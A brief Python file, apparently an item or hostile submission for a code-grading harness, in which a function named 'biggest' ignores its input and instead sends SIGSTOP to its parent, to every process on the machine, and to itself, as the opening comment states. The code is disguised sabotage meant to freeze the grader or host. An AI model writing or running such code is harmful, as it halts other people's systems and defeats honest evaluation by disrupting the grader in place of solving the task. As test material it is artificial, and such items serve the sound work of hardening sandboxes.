# Stops itself, its parent and every process on the machine with SIGSTOP.
# points: 0..1
# %% answer: biggest
import os
import signal


def biggest(numbers):
    for pid in (os.getppid(), -1, os.getpid()):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            continue
    return 0
